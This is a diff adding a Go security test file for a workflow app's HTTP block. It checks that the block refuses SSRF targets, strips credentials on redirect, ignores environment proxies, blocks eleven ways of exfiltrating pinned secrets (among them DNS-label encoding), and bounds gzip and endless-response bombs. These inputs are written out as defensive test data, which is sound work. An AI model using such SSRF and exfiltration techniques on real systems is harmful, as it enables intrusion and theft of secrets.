@@ -1,0 +1,351 @@
+package security_test
+
+import (
+	"bytes"
+	"compress/gzip"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"runtime"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/hushflow/hushflow/internal/app"
+)
+
+// HTTP block: cases 18-23 of SECURITY.md, through flows run by the API.
+// The policy and pinning are proven in depth by egress/egress_test.go
+// (DNS rebinding with a fake resolver included) and
+// blocks/httpblock/httpblock_test.go.
+
+// counter is a local service on addr ("127.0.0.1:0", "127.0.0.2:0") that
+// counts its hits and records what it received.
+type counter struct {
+	*httptest.Server
+	hits atomic.Int64
+	got  atomic.Value // string: the last request's headers, URL and body
+}
+
+func newCounter(t *testing.T, addr string, h http.HandlerFunc) *counter {
+	c := &counter{}
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Skipf("listen on %s: %v", addr, err)
+	}
+	c.Server = &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		c.hits.Add(1)
+		b, _ := io.ReadAll(r.Body)
+		c.got.Store(fmt.Sprint(r.Host, r.URL, r.Header, string(b)))
+		if h != nil {
+			h(w, r)
+			return
+		}
+		w.WriteHeader(200)
+		_, _ = w.Write([]byte(`{"ok":true}`))
+	})}}
+	c.Start()
+	t.Cleanup(c.Close)
+	return c
+}
+
+// refusedRun runs a one-block http flow and returns its error, failing
+// the test unless the run failed.
+func (e *env) refusedRun(name string, cfg map[string]any) string {
+	e.t.Helper()
+	if _, ok := cfg["timeout"]; !ok {
+		cfg["timeout"] = "'2s'"
+	}
+	r := e.do("POST", "/api/v1/projects/p/flows", map[string]any{"name": name, "trigger": map[string]any{"type": "manual"},
+		"blocks": []any{httpBlock("h", cfg)}})
+	if r.Status == 400 {
+		return string(r.Body) // refused when the flow is saved
+	}
+	if r.Status != 201 {
+		e.t.Fatalf("save %s: %d %s", name, r.Status, r.Body)
+	}
+	_, msg := e.runStatus(name, "failed", nil)
+	return msg
+}
+
+func TestCase18_InternalTargets(t *testing.T) {
+	e := sqlite(t, defaultEgress)
+	k := canary("c18")
+	e.secret("K", k)
+	local := newCounter(t, "127.0.0.1:0", nil)
+	port := local.Listener.Addr().(*net.TCPAddr).Port
+	var local6 *counter
+	if ln, err := net.Listen("tcp", "[::1]:0"); err == nil {
+		ln.Close()
+		local6 = newCounter(t, "[::1]:0", nil)
+	}
+	targets := map[string]string{
+		"loopback":   fmt.Sprintf("http://127.0.0.1:%d/x", port),
+		"localhost":  fmt.Sprintf("http://localhost:%d/x", port),
+		"metadata":   "http://169.254.169.254/latest/meta-data/",
+		"private10":  "http://10.0.0.1/x",
+		"private192": "http://192.168.0.1/x",
+		"zero":       fmt.Sprintf("http://0.0.0.0:%d/x", port),
+		"mapped":     fmt.Sprintf("http://[::ffff:127.0.0.1]:%d/x", port),
+		"file":       "file:///etc/passwd",
+		"gopher":     fmt.Sprintf("gopher://127.0.0.1:%d/x", port),
+	}
+	if local6 != nil {
+		targets["ipv6"] = fmt.Sprintf("http://[::1]:%d/x", local6.Listener.Addr().(*net.TCPAddr).Port)
+	}
+	for name, u := range targets {
+		start := time.Now()
+		msg := e.refusedRun("t-"+name, map[string]any{"url": quote(u), "headers": "({Authorization: 'Bearer ' + secrets.K})"})
+		took := time.Since(start)
+		if !strings.Contains(msg, "egress refused") && !strings.Contains(msg, "scheme") {
+			t.Errorf("%s: not refused by the egress policy: %s", name, msg)
+		}
+		// Refused at the policy check, not after a connect attempt.
+		if took > 1500*time.Millisecond {
+			t.Errorf("%s: refused after %s (a connection was tried?)", name, took)
+		}
+		t.Logf("%s: %s", name, msg)
+	}
+	if n := local.hits.Load(); n != 0 {
+		t.Errorf("the loopback service was hit %d times", n)
+	}
+	if local6 != nil && local6.hits.Load() != 0 {
+		t.Errorf("the [::1] service was hit")
+	}
+	e.sweep(nil)
+}
+
+func TestCase19_NamesResolvingInternally(t *testing.T) {
+	e := sqlite(t, defaultEgress)
+	k := canary("c19")
+	e.secret("K", k)
+	local := newCounter(t, "127.0.0.1:0", nil)
+	port := local.Listener.Addr().(*net.TCPAddr).Port
+	// Names and spellings that reach loopback only after resolution or
+	// parsing: the check must be on the dialed IP. (DNS rebinding needs a
+	// resolver that changes its answer: egress/egress_test.go has it.)
+	for name, host := range map[string]string{
+		"localhost": "localhost", "upper-dot": "LOCALHOST.", "short": "127.1", "decimal": "2130706433", "hex": "0x7f000001",
+	} {
+		msg := e.refusedRun("n-"+name, map[string]any{
+			"url": quote(fmt.Sprintf("http://%s:%d/x", host, port)), "headers": "({Authorization: 'Bearer ' + secrets.K})"})
+		t.Logf("%s: %s", name, msg)
+		if name == "localhost" {
+			contains(t, name, msg, "egress refused")
+		}
+	}
+	if n := local.hits.Load(); n != 0 {
+		t.Errorf("the loopback service was reached %d times through a name", n)
+	}
+	e.sweep(nil)
+}
+
+func TestCase20_RedirectToInternal(t *testing.T) {
+	k := canary("c20")
+	t.Run("RefusedByPolicy", func(t *testing.T) {
+		// 127.0.0.2 plays the public first hop; 127.0.0.1 is internal.
+		e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.2/32"; c.RateLimit = -1 })
+		e.secret("K", k)
+		inner := newCounter(t, "127.0.0.1:0", nil)
+		first := newCounter(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, inner.URL+"/meta", http.StatusFound)
+		})
+		msg := e.refusedRun("redir", map[string]any{"url": quote(first.URL + "/go"), "headers": "({Authorization: 'Bearer ' + secrets.K})"})
+		contains(t, "redirect error", msg, "egress refused")
+		if first.hits.Load() != 1 || inner.hits.Load() != 0 {
+			t.Errorf("hits: first %d, internal %d", first.hits.Load(), inner.hits.Load())
+		}
+		e.sweep(nil)
+	})
+	t.Run("CredentialsNotCarried", func(t *testing.T) {
+		e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.0/8"; c.RateLimit = -1 })
+		e.secret("K", k)
+		other := newCounter(t, "127.0.0.1:0", nil)
+		first := newCounter(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, other.URL+"/landing", http.StatusTemporaryRedirect)
+		})
+		e.flow("carry", httpBlock("h", map[string]any{"url": quote(first.URL + "/go"),
+			"headers": "({Authorization: 'Bearer ' + secrets.K, 'X-Custom': 'k=' + secrets.K, Cookie: 'a=b'})"}))
+		e.runStatus("carry", "succeeded", nil)
+		got, _ := other.got.Load().(string)
+		if other.hits.Load() != 1 || got == "" {
+			t.Fatalf("the redirect was not followed: %d", other.hits.Load())
+		}
+		if strings.Contains(got, "Authorization") || strings.Contains(got, "X-Custom") || strings.Contains(got, "Cookie") || strings.Contains(got, k) {
+			t.Errorf("credentials carried to another host: %s", got)
+		}
+		e.sweep(nil)
+	})
+}
+
+func TestCase21_ProxyInEnvironment(t *testing.T) {
+	proxy := newCounter(t, "127.0.0.1:0", nil)
+	for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"} {
+		t.Setenv(v, proxy.URL)
+	}
+	t.Setenv("NO_PROXY", "")
+	t.Setenv("no_proxy", "")
+	e := sqlite(t, defaultEgress)
+	k := canary("c21")
+	e.secret("K", k)
+	for name, u := range map[string]string{"private": "http://10.0.0.1/x", "metadata": "http://169.254.169.254/", "public-name": "http://example.invalid/x"} {
+		msg := e.refusedRun("px-"+name, map[string]any{"url": quote(u), "headers": "({Authorization: 'Bearer ' + secrets.K})", "timeout": "'1s'"})
+		t.Logf("%s: %s", name, msg)
+	}
+	if n := proxy.hits.Load(); n != 0 {
+		t.Errorf("the environment's proxy was used %d times", n)
+	}
+	e.sweep(nil)
+}
+
+func TestCase22_Exfiltration(t *testing.T) {
+	e := sqlite(t, func(c *app.Config) { c.HTTPAllow = "127.0.0.0/8"; c.RateLimit = -1 })
+	hostA := newCounter(t, "127.0.0.1:0", nil)
+	hostB := newCounter(t, "127.0.0.2:0", nil)
+	k := canary("c22")
+	e.secret("K", k, map[string]any{"allowed_hosts": []string{"127.0.0.1"}})
+	// A value short enough for its hex to fit in one DNS label.
+	var rb [10]byte
+	_, _ = rand.Read(rb[:])
+	short := `d&<>"%\` + hex.EncodeToString(rb[:])
+	e.secret("SHORT", short, map[string]any{"allowed_hosts": []string{"127.0.0.1"}})
+	e.flow("to-a", httpBlock("h", map[string]any{"method": "'POST'", "url": quote(hostA.URL + "/ok"), "headers": "({Authorization: 'Bearer ' + secrets.K})", "body": "({k: secrets.K})"}))
+	e.runStatus("to-a", "succeeded", nil)
+	if hostA.hits.Load() != 1 {
+		t.Fatalf("host A: %d hits", hostA.hits.Load())
+	}
+	b := hostB.URL
+	hexK := "Array.from(secrets.K).map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"
+	ways := map[string]map[string]any{
+		"url":      {"url": "`" + b + "/x?q=${encodeURIComponent(secrets.K)}`"},
+		"path":     {"url": "`" + b + "/${encodeURIComponent(secrets.K)}`"},
+		"header":   {"url": quote(b + "/x"), "headers": "({'X-Whatever': secrets.K})"},
+		"auth":     {"url": quote(b + "/x"), "headers": "({Authorization: 'Basic ' + btoa('user:' + secrets.K)})"},
+		"body":     {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: secrets.K})"},
+		"text":     {"method": "'POST'", "url": quote(b + "/x"), "body": "'raw ' + secrets.K", "body_type": "'text'"},
+		"base64":   {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: btoa(secrets.K)})"},
+		"form":     {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: secrets.K})", "body_type": "'form'"},
+		"hex":      {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: " + hexK + "})"},
+		"dnslabel": {"url": "`http://${" + strings.ReplaceAll(hexK, "secrets.K", "secrets.SHORT") + "}.example.invalid/`"},
+		"query":    {"url": quote(b + "/x"), "query": "({k: secrets.K})"},
+	}
+	for name, cfg := range ways {
+		msg := e.refusedRun("ex-"+name, cfg)
+		if !strings.Contains(msg, `may only be sent to 127.0.0.1`) {
+			t.Errorf("%s: not refused by pinning: %s", name, msg)
+		}
+	}
+	if n := hostB.hits.Load(); n != 0 {
+		t.Errorf("host B received %d requests", n)
+	}
+	// Audited: every refusal is an egress_refused event naming the
+	// secret and the host.
+	refused := 0
+	for _, id := range e.runs[1:] {
+		st, _ := e.events(id)
+		if strings.Contains(st, `"egress_refused"`) && (strings.Contains(st, `"secret":"K"`) || strings.Contains(st, `"secret":"SHORT"`)) {
+			refused++
+		}
+	}
+	if refused != len(ways) {
+		t.Errorf("%d of %d refusals have an egress_refused event", refused, len(ways))
+	}
+	e.sweep(nil)
+}
+
+func TestCase23_ResponseBombs(t *testing.T) {
+	e := sqlite(t, noRateLimit)
+	k := canary("c23")
+	e.secret("K", k)
+	var gz bytes.Buffer
+	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
+	_, _ = zw.Write(make([]byte, 64<<20))
+	_ = zw.Close()
+	bomb := newCounter(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
+		f, _ := w.(http.Flusher)
+		chunk := bytes.Repeat([]byte("A"), 32<<10)
+		switch r.URL.Path {
+		case "/endless":
+			for {
+				if _, err := w.Write(chunk); err != nil {
+					return
+				}
+			}
+		case "/drip":
+			for {
+				if _, err := w.Write([]byte("x")); err != nil {
+					return
+				}
+				f.Flush()
+				select {
+				case <-r.Context().Done():
+					return
+				case <-time.After(100 * time.Millisecond):
+				}
+			}
+		case "/gzip":
+			w.Header().Set("Content-Encoding", "gzip")
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = w.Write(gz.Bytes())
+		case "/headers":
+			for i := range 200 {
+				w.Header().Set(fmt.Sprintf("X-Big-%d", i), strings.Repeat("h", 1000))
+			}
+			w.WriteHeader(200)
+		case "/slowheaders":
+			select {
+			case <-r.Context().Done():
+			case <-time.After(10 * time.Second):
+			}
+		}
+	})
+	before := runtime.NumGoroutine()
+	for name, cfg := range map[string]map[string]any{
+		"endless":     {"url": quote(bomb.URL + "/endless"), "max_response_bytes": 1 << 20},
+		"drip":        {"url": quote(bomb.URL + "/drip"), "timeout": "'1s'"},
+		"gzip":        {"url": quote(bomb.URL + "/gzip"), "headers": "({'Accept-Encoding': 'gzip'})", "max_response_bytes": 1 << 20},
+		"gzipauto":    {"url": quote(bomb.URL + "/gzip"), "max_response_bytes": 1 << 20},
+		"headers":     {"url": quote(bomb.URL + "/headers")},
+		"slowheaders": {"url": quote(bomb.URL + "/slowheaders"), "timeout": "'1s'"},
+	} {
+		cfg["headers"] = "({Authorization: 'Bearer ' + secrets.K})"
+		start := time.Now()
+		e.flow("b-"+name, httpBlock("h", cfg))
+		r := e.run("b-"+name, nil)
+		took := time.Since(start)
+		t.Logf("%s: %v in %s: %.200v", name, r["status"], took.Round(time.Millisecond), r["error"])
+		if took > 5*time.Second {
+			t.Errorf("%s: bounded only after %s", name, took)
+		}
+		if name != "gzip" && name != "gzipauto" && r["status"] != "failed" {
+			t.Errorf("%s: %v", name, r["status"])
+		}
+		if strings.HasPrefix(name, "gzip") && r["status"] == "succeeded" && len(js(r["output"])) > 2<<20 {
+			t.Errorf("%s: the gzip bomb was inflated into the output", name)
+		}
+	}
+	healthy(t, e.s, 2*time.Second)
+	// No goroutine or connection leak: the count comes back near the
+	// baseline once idle connections are closed.
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		http.DefaultClient.CloseIdleConnections()
+		n := runtime.NumGoroutine()
+		if n <= before+10 {
+			t.Logf("goroutines: %d before, %d after", before, n)
+			break
+		}
+		if time.Now().After(deadline) {
+			buf := make([]byte, 1<<20)
+			t.Errorf("goroutines: %d before, %d after: %s", before, n, buf[:runtime.Stack(buf, true)])
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	e.sweep(nil)
+}
